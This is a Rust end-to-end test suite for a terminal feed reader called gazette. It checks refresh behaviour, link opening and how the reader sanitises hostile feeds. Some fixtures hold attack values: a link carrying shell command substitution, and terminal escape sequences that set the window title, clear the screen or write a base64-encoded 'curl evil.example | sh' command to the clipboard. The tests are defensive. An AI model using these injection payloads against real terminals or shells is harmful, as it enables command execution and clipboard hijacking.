//! End-to-end tests of feeds: the real `gazette` binary in a pseudo-terminal (the harness in
//! `common/mod.rs`) reading feeds from a tiny_http server on an ephemeral 127.0.0.1 port, run on
//! threads inside this test process so each test can hold, count and answer the requests itself.

mod common;

use std::ffi::OsString;
use std::path::Path;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::thread::{self, JoinHandle};
use std::time::{Duration, Instant};

use common::{list_rows, story_text, Gate, Gazette, TIMEOUT};
use tiny_http::{Header, Response};

/// Wide enough that every short title below fits its row whole, beside the date and source columns.
const COLS: u16 = 160;
const ROWS: u16 = 36;

// ---------------------------------------------------------------------------------------------
// The HTTP server.

/// A request as the server saw it.
#[derive(Debug, Clone, PartialEq, Eq)]
struct Seen {
    path: String,
    if_none_match: Option<String>,
}

/// What the handler answers.
struct Reply {
    status: u16,
    body: Vec<u8>,
    headers: Vec<(&'static str, String)>,
}

impl Reply {
    fn ok(body: impl Into<Vec<u8>>, content_type: &str) -> Reply {
        Reply {
            status: 200,
            body: body.into(),
            headers: vec![("Content-Type", content_type.to_string())],
        }
    }

    fn rss(body: impl Into<Vec<u8>>) -> Reply {
        Reply::ok(body, "application/rss+xml")
    }

    fn status(status: u16) -> Reply {
        Reply {
            status,
            body: Vec::new(),
            headers: Vec::new(),
        }
    }

    fn header(mut self, name: &'static str, value: &str) -> Reply {
        self.headers.push((name, value.to_string()));
        self
    }
}

/// A tiny_http server on 127.0.0.1 with an ephemeral port. Each request is answered on a thread
/// of its own, so a handler that holds one response back does not hold the others.
struct Server {
    server: Arc<tiny_http::Server>,
    port: u16,
    /// Every request, logged when it arrives (before the handler runs).
    seen: Arc<Mutex<Vec<Seen>>>,
    /// Every answer, logged once it has been sent: the path and the status.
    answered: Arc<Mutex<Vec<(String, u16)>>>,
    thread: Option<JoinHandle<()>>,
}

impl Server {
    fn start(handler: impl Fn(&Seen) -> Reply + Send + Sync + 'static) -> Server {
        let server = Arc::new(tiny_http::Server::http("127.0.0.1:0").expect("start the server"));
        let port = server.server_addr().to_ip().expect("an IP address").port();
        let seen = Arc::new(Mutex::new(Vec::new()));
        let answered = Arc::new(Mutex::new(Vec::new()));
        let handler = Arc::new(handler);
        let thread = {
            let (server, seen, answered) = (server.clone(), seen.clone(), answered.clone());
            thread::spawn(move || {
                // Ends when `unblock` is called on drop.
                for request in server.incoming_requests() {
                    let request_seen = Seen {
                        path: request.url().to_string(),
                        if_none_match: request
                            .headers()
                            .iter()
                            .find(|h| h.field.equiv("If-None-Match"))
                            .map(|h| h.value.as_str().to_string()),
                    };
                    seen.lock().unwrap().push(request_seen.clone());
                    let (handler, answered) = (handler.clone(), answered.clone());
                    thread::spawn(move || {
                        let reply = handler(&request_seen);
                        let mut response =
                            Response::from_data(reply.body).with_status_code(reply.status);
                        for (name, value) in &reply.headers {
                            let header = Header::from_bytes(name.as_bytes(), value.as_bytes())
                                .expect("a valid header");
                            response = response.with_header(header);
                        }
                        // The client may be gone when a test has failed already.
                        let _ = request.respond(response);
                        answered
                            .lock()
                            .unwrap()
                            .push((request_seen.path, reply.status));
                    });
                }
            })
        };
        Server {
            server,
            port,
            seen,
            answered,
            thread: Some(thread),
        }
    }

    fn url(&self, path: &str) -> String {
        format!("http://127.0.0.1:{}{path}", self.port)
    }

    fn seen(&self) -> Vec<Seen> {
        self.seen.lock().unwrap().clone()
    }

    fn answered(&self) -> Vec<(String, u16)> {
        self.answered.lock().unwrap().clone()
    }

    /// Waits until `ok(requests seen, answers sent)` holds; panics after TIMEOUT.
    fn wait_for(&self, what: &str, ok: impl Fn(&[Seen], &[(String, u16)]) -> bool) {
        let start = Instant::now();
        loop {
            let (seen, answered) = (self.seen(), self.answered());
            if ok(&seen, &answered) {
                return;
            }
            assert!(
                start.elapsed() < TIMEOUT,
                "timed out waiting for {what}; requests {seen:?}, answers {answered:?}"
            );
            thread::sleep(Duration::from_millis(10));
        }
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        self.server.unblock();
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Feeds.

struct Item {
    title: &'static str,
    link: &'static str,
    /// RFC 2822, as RSS has it.
    date: &'static str,
    text: &'static str,
}

/// An RSS 2.0 document. Titles, links and texts go in as they are: escape them first if needed.
fn rss(title: &str, items: &[&Item]) -> String {
    let mut xml = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<rss version=\"2.0\"><channel>\
         <title>{title}</title><link>https://news.example/</link>\
         <description>Test feed</description>\n"
    );
    for item in items {
        xml += &format!(
            "<item><title>{}</title><link>{}</link><guid>{}</guid><pubDate>{}</pubDate>\
             <description>{}</description></item>\n",
            item.title, item.link, item.link, item.date, item.text
        );
    }
    xml += "</channel></rss>\n";
    xml
}

const WIRE: &str = "Test Wire";

// In the feed these come oldest, middle, newest... out of date order on purpose: the list must sort.
const FLOOD: Item = Item {
    title: "Harbour Road Floods",
    link: "https://news.example/2019/flood",
    date: "Tue, 01 Jan 2019 10:00:00 GMT",
    text: "The harbour road was under water by noon.",
};
const STRIKE: Item = Item {
    title: "Rail Strike Called Off",
    link: "https://news.example/2020/strike",
    date: "Mon, 01 Jun 2020 10:00:00 GMT",
    text: "The union accepted the offer late on Sunday.",
};
const BUDGET: Item = Item {
    title: "Council Approves Budget",
    link: "https://news.example/2021/budget",
    date: "Mon, 01 Mar 2021 10:00:00 GMT",
    text: "The vote was close, nine to eight.",
};
const BRIDGE: Item = Item {
    title: "Bridge Reopens Early",
    link: "https://news.example/2022/bridge",
    date: "Wed, 02 Feb 2022 10:00:00 GMT",
    text: "Repairs finished a week ahead of plan.",
};

/// The three stories of the first edition of the feed, in feed order (not date order).
fn first_edition() -> String {
    rss(WIRE, &[&STRIKE, &FLOOD, &BUDGET])
}

// ---------------------------------------------------------------------------------------------
// Reading the screen.

/// Asserts that the list shows exactly `titles`, in this order, one per row.
fn assert_rows(text: &str, titles: &[&str]) {
    let rows = list_rows(text);
    assert_eq!(
        rows.len(),
        titles.len(),
        "list rows {rows:?}, expected {titles:?}; screen:\n{text}"
    );
    for (i, title) in titles.iter().enumerate() {
        assert!(
            rows[i].contains(title),
            "row {i} is {:?}, expected {title:?}; screen:\n{text}",
            rows[i]
        );
    }
}

/// The text of the highlighted (selected) row of the list: the row whose first cell inside the
/// border has a background colour.
fn selected_row(screen: &vt100::Screen) -> Option<String> {
    let text = screen.contents();
    text.lines().enumerate().find_map(|(y, line)| {
        let inside = line.strip_prefix('│')?;
        let cell = screen.cell(y as u16, 1)?;
        (cell.bgcolor() != vt100::Color::Default)
            .then(|| inside.split('│').next().unwrap_or("").trim().to_string())
    })
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    !needle.is_empty() && haystack.windows(needle.len()).any(|w| w == needle)
}

/// Standard base64 with padding, as OSC 52 carries it (the tests have no base64 crate).
fn base64(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let b = [
            chunk[0],
            chunk.get(1).copied().unwrap_or(0),
            chunk.get(2).copied().unwrap_or(0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for (i, shift) in [18, 12, 6, 0].into_iter().enumerate() {
            if i <= chunk.len() {
                out.push(char::from(ALPHABET[((n >> shift) & 63) as usize]));
            } else {
                out.push('=');
            }
        }
    }
    out
}

#[test]
fn base64_matches_the_rfc_vectors() {
    for (plain, encoded) in [
        ("", ""),
        ("f", "Zg=="),
        ("fo", "Zm8="),
        ("foo", "Zm9v"),
        ("foobar", "Zm9vYmFy"),
    ] {
        assert_eq!(base64(plain.as_bytes()), encoded);
    }
}

// ---------------------------------------------------------------------------------------------
// The tests.

/// Feeds load on worker threads: while one is still on its way the reader answers keys; the
/// stories arrive newest first, the summary counts the failure, and `E` names it.
#[test]
fn stories_arrive_while_the_reader_stays_responsive() {
    let gate = Arc::new(Gate::default());
    let server = {
        let gate = gate.clone();
        Server::start(move |request| match request.path.as_str() {
            "/wire.xml" => {
                gate.wait(Duration::from_secs(5));
                Reply::rss(first_edition())
            }
            _ => Reply::status(404),
        })
    };
    let (good, missing) = (server.url("/wire.xml"), server.url("/missing.xml"));
    let mut g = Gazette::start(COLS, ROWS, &[&good, &missing], |_| {});

    // The 404 is answered at once; the good feed is held: one of two feeds is in, no stories yet.
    server.wait_for("both requests, the 404 answered", |seen, answered| {
        seen.iter().any(|s| s.path == "/wire.xml")
            && answered.iter().any(|(path, _)| path == "/missing.xml")
    });
    g.wait_for("the progress of the refresh", |s| {
        s.contains("Headlines (0)") && s.contains("Refreshing 1/2 feeds…")
    });

    g.send("?");
    g.wait_for("the help overlay", |s| s.contains(" Keys (Esc closes) "));
    assert!(
        !server
            .answered()
            .iter()
            .any(|(path, _)| path == "/wire.xml"),
        "the help appeared only once the feed had been answered: the reader waited for it"
    );
    let text = g.text();
    for title in [FLOOD.title, STRIKE.title, BUDGET.title] {
        assert!(!text.contains(title), "{title} shown too early:\n{text}");
    }
    g.send_esc();
    g.wait_for("the help to close", |s| {
        !s.contains("Keys (Esc closes)") && s.contains("Headlines (0)")
    });

    gate.open();
    let summary = "Refreshed 2 feeds: 3 new stories, 1 failed (E lists them)";
    g.wait_for("the stories and the summary", |s| {
        s.contains("Headlines (3)") && s.contains(summary) && list_rows(s).len() == 3
    });
    let text = g.text();
    // Newest first by date: 2021, 2020, 2019, whatever the order in the feed.
    assert_rows(&text, &[BUDGET.title, STRIKE.title, FLOOD.title]);
    // Every listed story is from the one feed that answered: no source column, which would say
    // the same on each row (the story pane names it).
    for (row, year) in list_rows(&text).iter().zip(["2021", "2020", "2019"]) {
        assert!(
            row.starts_with(year) && !row.contains(WIRE),
            "row {row:?} should show the date {year} and not the source {WIRE}"
        );
    }
    // The first story is selected and shown, its source named by the feed's own title.
    let story = story_text(&text);
    assert!(story.starts_with(BUDGET.title), "{text}");
    assert!(story.contains(&format!("Feed: {WIRE}")), "{text}");
    assert!(story.contains(BUDGET.text), "{text}");

    g.send("E");
    // A feed with no name of its own yet is named by its URL (one host often has several feeds).
    let problem = format!(" {missing}: HTTP 404 Not Found ");
    g.wait_for("the problems overlay", |s| {
        s.contains(" Problems (1) · ") && s.contains(&problem)
    });
    // The overlay is modal: a bound key closes it and does nothing else (the selection stays).
    g.send("j");
    g.wait_for("the problems overlay to close", |s| {
        !s.contains("Problems (1)") && s.contains("Headlines (3)")
    });
    assert!(
        story_text(&g.text()).starts_with(BUDGET.title),
        "{}",
        g.text()
    );
    // Esc closes it too.
    g.send("E");
    g.wait_for("the problems overlay again", |s| s.contains(&problem));
    g.send_esc();
    g.wait_for("the problems overlay to close", |s| {
        !s.contains("Problems (1)") && s.contains("Headlines (3)")
    });
    assert!(
        story_text(&g.text()).starts_with(BUDGET.title),
        "{}",
        g.text()
    );

    g.send("q");
    g.assert_exit(0);
    g.assert_restored();
}

/// `R` sends the last ETag; a 304 changes nothing; a new edition of the feed adds its story at the
/// top while the selection stays on the story being read.
#[test]
fn refresh_is_conditional_and_keeps_the_selection() {
    let edition = Arc::new(AtomicUsize::new(1));
    let server = {
        let edition = edition.clone();
        Server::start(move |request| {
            let n = edition.load(Ordering::SeqCst);
            let etag = format!("\"wire-v{n}\"");
            if request.if_none_match.as_deref() == Some(etag.as_str()) {
                return Reply::status(304).header("ETag", &etag);
            }
            let body = match n {
                1 => first_edition(),
                _ => rss(WIRE, &[&BRIDGE, &STRIKE, &FLOOD, &BUDGET]),
            };
            Reply::rss(body).header("ETag", &etag)
        })
    };
    let url = server.url("/wire.xml");
    let mut g = Gazette::start(COLS, ROWS, &[&url], |_| {});
    g.wait_for("the first load", |s| {
        s.contains("Headlines (3)")
            && s.contains("Refreshed 1 feed: 3 new stories")
            && list_rows(s).len() == 3
    });
    let before = g.text();
    assert_rows(&before, &[BUDGET.title, STRIKE.title, FLOOD.title]);
    assert_eq!(
        server.seen(),
        vec![Seen {
            path: "/wire.xml".into(),
            if_none_match: None
        }]
    );

    g.send("R");
    server.wait_for("the conditional request", |_, answered| answered.len() == 2);
    g.wait_for("the refresh summary", |s| {
        s.contains("Refreshed 1 feed: 0 new stories")
    });
    assert_eq!(
        server.seen()[1].if_none_match.as_deref(),
        Some("\"wire-v1\""),
        "the refresh did not send the ETag"
    );
    assert_eq!(server.answered()[1], ("/wire.xml".into(), 304));
    let after = g.text();
    assert_eq!(list_rows(&after), list_rows(&before), "{after}");
    assert!(after.contains("Headlines (3)"), "{after}");

    // Read the second story; its title is at the top of the story pane.
    g.send("j");
    g.wait_for("the second story", |s| {
        story_text(s).starts_with(STRIKE.title)
    });
    let reading = [BUDGET.title, STRIKE.title, FLOOD.title]
        .into_iter()
        .find(|t| story_text(&g.text()).starts_with(t))
        .expect("a story is shown");
    assert_eq!(reading, STRIKE.title);
    let selected = selected_row(&g.screen()).expect("a highlighted row");
    assert!(selected.contains(reading), "selected row {selected:?}");

    // A new edition with a newer story: it goes to the top, and the reader stays put.
    edition.store(2, Ordering::SeqCst);
    g.send("R");
    g.wait_for("the new story", |s| {
        s.contains("Headlines (4)")
            && s.contains("Refreshed 1 feed: 1 new story")
            && list_rows(s).len() == 4
    });
    assert_eq!(
        server.seen()[2].if_none_match.as_deref(),
        Some("\"wire-v1\"")
    );
    assert_eq!(server.answered()[2], ("/wire.xml".into(), 200));
    let text = g.text();
    assert_rows(
        &text,
        &[BRIDGE.title, BUDGET.title, STRIKE.title, FLOOD.title],
    );
    assert!(story_text(&text).starts_with(reading), "{text}");
    let selected = selected_row(&g.screen()).expect("a highlighted row");
    assert!(
        selected.contains(reading),
        "selected row {selected:?}:\n{text}"
    );
    assert!(text.contains(" 3/4 "), "list position:\n{text}");

    // `r` refreshes the selected story's feed, with the new ETag: nothing new.
    g.send("r");
    server.wait_for("the third refresh", |_, answered| answered.len() == 4);
    g.wait_for("its summary", |s| {
        s.contains("Refreshed 1 feed: 0 new stories")
    });
    assert_eq!(
        server.seen()[3].if_none_match.as_deref(),
        Some("\"wire-v2\"")
    );
    assert_eq!(server.answered()[3], ("/wire.xml".into(), 304));
    assert!(story_text(&g.text()).starts_with(reading));

    g.send("q");
    g.assert_exit(0);
    g.assert_restored();
}

/// Writes an executable `browser` script into `dir` that prints noise to stdout and stderr, then
/// writes its first argument, exactly, to `dir/opened`.
fn write_browser(dir: &Path) -> std::path::PathBuf {
    use std::os::unix::fs::PermissionsExt;
    let script = dir.join("browser");
    let opened = dir.join("opened");
    let body = format!(
        "#!/bin/sh\necho BROWSER-STDOUT-NOISE\necho BROWSER-STDERR-NOISE >&2\n\
         printf '%s' \"$1\" > '{}.tmp' && mv '{}.tmp' '{}'\n",
        opened.display(),
        opened.display(),
        opened.display()
    );
    std::fs::write(&script, body).expect("write the browser script");
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755))
        .expect("chmod the browser script");
    script
}

/// Waits for the browser script to have written `dir/opened`, and returns what it wrote.
fn wait_opened(dir: &Path) -> String {
    let path = dir.join("opened");
    let start = Instant::now();
    loop {
        if let Ok(text) = std::fs::read_to_string(&path) {
            return text;
        }
        assert!(start.elapsed() < TIMEOUT, "the browser was never run");
        thread::sleep(Duration::from_millis(10));
    }
}

/// `o` runs $BROWSER with the selected story's link, not through a shell, nothing printed over the
/// screen; `y` copies the link with OSC 52.
#[test]
fn open_and_copy_the_selected_link() {
    // Characters a shell would act on: run through `sh -c`, the link would not arrive intact.
    const ODD: Item = Item {
        title: "Odd Link Story",
        link: "https://news.example/a?q=$(touch%20pwned)&amp;b=`id`;c",
        date: "Wed, 02 Feb 2022 10:00:00 GMT",
        text: "Its link has characters a shell would act on.",
    };
    const ODD_LINK: &str = "https://news.example/a?q=$(touch%20pwned)&b=`id`;c";
    let server = Server::start(|_| Reply::rss(rss(WIRE, &[&ODD, &BUDGET])));
    let url = server.url("/wire.xml");
    let mut g = Gazette::start_with_env(COLS, ROWS, &[&url], |dir| {
        let script = write_browser(dir);
        vec![("BROWSER".to_string(), OsString::from(script))]
    });
    g.wait_for("the stories", |s| {
        list_rows(s).len() == 2 && story_text(s).starts_with(ODD.title)
    });
    assert!(
        story_text(&g.text()).contains(&format!("Link: {ODD_LINK}")),
        "{}",
        g.text()
    );

    g.send("o");
    assert_eq!(wait_opened(g.dir()), ODD_LINK);
    // The browser's output went nowhere: not into the pty, not over the screen. (It wrote that
    // before the file: give the pty reader a moment to catch up.)
    thread::sleep(Duration::from_millis(150));
    assert!(
        !contains(&g.raw_bytes(), b"NOISE"),
        "the browser's output reached the terminal"
    );
    g.wait_for("the note", |s| s.contains(&format!("Opening {ODD_LINK}")));
    assert!(!g.dir().join("pwned").exists(), "a shell ran the link");
    // The second story, to be sure it is the selected story's link that is opened.
    std::fs::remove_file(g.dir().join("opened")).expect("remove opened");
    g.send("j");
    g.wait_for("the second story", |s| {
        story_text(s).starts_with(BUDGET.title)
    });
    g.send("o");
    assert_eq!(wait_opened(g.dir()), BUDGET.link);
    g.wait_for("the note", |s| {
        s.contains(&format!("Opening {}", BUDGET.link))
    });
    thread::sleep(Duration::from_millis(150));
    assert!(
        !contains(&g.raw_bytes(), b"NOISE"),
        "the browser's output reached the terminal"
    );
    let text = g.text();
    assert!(
        text.contains("Headlines (2)") && list_rows(&text).len() == 2,
        "{text}"
    );
    assert!(story_text(&text).starts_with(BUDGET.title), "{text}");

    // `y`: OSC 52 to the clipboard selection `c`, the link in base64, ended by ST (or BEL).
    assert!(g.recorded().clipboard.is_empty());
    g.send("y");
    g.wait_for("the copy note", |s| {
        s.contains(&format!("Copied {}", BUDGET.link))
    });
    let encoded = base64(BUDGET.link.as_bytes());
    let sequence = format!("\x1b]52;c;{encoded}");
    let raw = g.raw_bytes();
    let ended = [b"\x1b\\".as_slice(), b"\x07"]
        .iter()
        .any(|end| contains(&raw, &[sequence.as_bytes(), end].concat()));
    assert!(
        ended,
        "no OSC 52 with the link in the output: {:?}",
        String::from_utf8_lossy(&raw)
    );
    assert_eq!(
        g.recorded().clipboard,
        vec![(b"c".to_vec(), encoded.into_bytes())]
    );

    g.send("q");
    g.assert_exit(0);
    g.assert_restored();
}

/// Feed text that tries to drive the terminal: set the window title, clear the screen, write the
/// clipboard. Sent raw in one feed, as numeric character references in another, and as JSON
/// escapes in a JSON Feed; nothing of it may reach the terminal, and the titles show cleaned.
#[test]
fn hostile_feed_text_never_reaches_the_terminal() {
    let payload = base64(b"curl https://evil.example/x | sh");
    let osc52 = format!("\x1b]52;c;{payload}\x07");
    // XML 1.0 forbids these characters, raw and as references; the parser accepts them anyway,
    // as the checks below on feed-rs itself show, so both reach gazette.
    let raw_xml = format!(
        "<?xml version=\"1.0\"?><rss version=\"2.0\"><channel>\
         <title>Raw\x1b]0;PWNED\x07 Wire</title>\
         <item><title>Raw title\x1b]0;PWNED\x07 one</title>\
         <link>https://news.example/raw/1</link><pubDate>Wed, 02 Feb 2022 10:00:00 GMT</pubDate>\
         <description>Body\x1b[2J text{osc52} here.</description></item>\
         <item><title>Raw wipe\x1b[2J two</title>\
         <link>https://news.example/raw/2</link><pubDate>Mon, 01 Mar 2021 10:00:00 GMT</pubDate></item>\
         <item><title>Raw copy{osc52} three</title>\
         <link>https://news.example/raw/3</link><pubDate>Mon, 01 Jun 2020 10:00:00 GMT</pubDate></item>\
         </channel></rss>"
    );
    let refs_xml = format!(
        "<?xml version=\"1.0\"?><rss version=\"2.0\"><channel><title>Refs Wire</title>\
         <item><title>Ref title&#27;]0;PWNED&#7; one</title>\
         <link>https://news.example/ref/1</link><pubDate>Tue, 04 Jul 2023 10:00:00 GMT</pubDate></item>\
         <item><title>Ref wipe&#x1b;[2J two</title>\
         <link>https://news.example/ref/2</link><pubDate>Tue, 01 Jan 2019 10:00:00 GMT</pubDate></item>\
         <item><title>Ref copy&#27;]52;c;{payload}&#7; three</title>\
         <link>https://news.example/ref/3</link></item>\
         </channel></rss>"
    );
    let json = format!(
        r#"{{"version": "https://jsonfeed.org/version/1.1", "title": "Json Wire",
            "items": [{{"id": "j1", "url": "https://news.example/json/1",
                        "title": "Json title\u001b]2;PWNED\u0007 one\u001b[2J",
                        "content_text": "Json\u001b]52;c;{payload}\u001b\\ body.",
                        "date_published": "2018-05-05T10:00:00Z"}}]}}"#
    );

    // The fixtures are what they claim: the control characters survive the feed parser.
    for feed in [&raw_xml, &refs_xml, &json] {
        let parsed = feed_rs::parser::parse(feed.as_bytes()).expect("feed-rs parses the fixture");
        let title = &parsed.entries[0].title.as_ref().expect("a title").content;
        assert!(title.contains('\u{1b}'), "{feed}");
    }

    let server = {
        let (raw_xml, refs_xml, json) = (raw_xml.clone(), refs_xml.clone(), json.clone());
        Server::start(move |request| match request.path.as_str() {
            "/raw.xml" => Reply::rss(raw_xml.clone()),
            "/refs.xml" => Reply::rss(refs_xml.clone()),
            "/feed.json" => Reply::ok(json.clone(), "application/feed+json"),
            _ => Reply::status(404),
        })
    };
    let urls = [
        server.url("/raw.xml"),
        server.url("/refs.xml"),
        server.url("/feed.json"),
    ];
    let args: Vec<&str> = urls.iter().map(String::as_str).collect();
    let mut g = Gazette::start(COLS, ROWS, &args, |_| {});
    g.wait_for("every feed", |s| {
        s.contains("Refreshed 3 feeds: 7 new stories") && list_rows(s).len() == 7
    });
    let text = g.text();
    // Cleaned: the sequences are gone whole, payload and all; the text around them stays.
    assert_rows(
        &text,
        &[
            "Ref title one",
            "Raw title one",
            "Raw wipe two",
            "Raw copy three",
            "Ref wipe two",
            "Json title one",
            "Ref copy three",
        ],
    );
    assert!(list_rows(&text)[1].contains("Raw Wire"), "{text}");
    // The story pane: title, source and body, cleaned. (Which story is selected depends on which
    // feed came in first, as the selection stays put while the others merge in: start at the top.)
    g.send("gj");
    g.wait_for("the raw story", |s| {
        story_text(s).starts_with("Raw title one Feed: Raw Wire")
    });
    assert!(
        story_text(&g.text()).contains("Body text here."),
        "{}",
        g.text()
    );
    g.send("G");
    g.wait_for("the last story", |s| {
        story_text(s).starts_with("Ref copy three")
    });
    g.send("k");
    g.wait_for("the JSON story", |s| {
        story_text(s).starts_with("Json title one") && story_text(s).contains("Json body.")
    });
    // The screen was never wiped mid-frame: the whole frame is there, borders and all.
    let text = g.text();
    let lines: Vec<&str> = text.lines().collect();
    assert!(lines[0].starts_with("┌ Headlines (7) "), "{text}");
    assert!(lines[0].ends_with('┐'), "{text}");
    assert!(lines[usize::from(ROWS) - 2].starts_with('└'), "{text}");

    g.send("q");
    g.assert_exit(0);
    g.assert_restored();

    let raw = g.raw_bytes();
    g.assert_no_title_or_clipboard();
    assert!(
        !contains(&raw, b"PWNED"),
        "the title payload reached the terminal"
    );
    assert!(
        !contains(&raw, payload.as_bytes()),
        "the OSC 52 payload reached the terminal"
    );
    assert!(!contains(&raw, b"\x1b]0;"), "an OSC 0 reached the terminal");
    assert!(
        !contains(&raw, b"\x1b]52;"),
        "an OSC 52 reached the terminal"
    );
    assert!(
        !contains(&raw, b"\x1b[2J"),
        "a clear screen reached the terminal"
    );
}

/// A web page's URL on the command line opens the feed the page names (a relative link, after a
/// redirect), as `gazette add` finds it, not "not a feed"; a page naming none is one line in `E`.
#[test]
fn a_page_url_on_the_command_line_opens_the_feed_it_names() {
    let server = Server::start(|request| match request.path.as_str() {
        "/" => Reply::status(301).header("Location", "/news/"),
        "/news/" => Reply::ok(
            "<!doctype html><html><head><title>News</title>\
             <link rel=\"alternate\" type=\"application/rss+xml\" href=\"feeds/wire.xml\">\
             </head><body>Front page</body></html>",
            "text/html",
        ),
        "/news/feeds/wire.xml" => Reply::rss(rss(WIRE, &[&BUDGET, &STRIKE])),
        "/plain.html" => Reply::ok(
            "<html><head></head><body>No feed</body></html>",
            "text/html",
        ),
        _ => Reply::status(404),
    });
    let (page, plain) = (server.url("/"), server.url("/plain.html"));
    let mut g = Gazette::start(COLS, ROWS, &[&page, &plain], |_| {});
    g.wait_for("the page's feed", |s| {
        list_rows(s).len() == 2
            && story_text(s).starts_with(BUDGET.title)
            && s.contains("Refreshed 2 feeds: 2 new stories, 1 failed")
    });
    g.send("E");
    g.wait_for("the page with no feed", |s| {
        s.contains("a web page that names no feed, and none at /feed, /rss.xml")
    });
    g.send("q");
    g.send("q");
    g.assert_exit(0);
    assert!(server
        .answered()
        .contains(&("/news/feeds/wire.xml".into(), 200)));
}
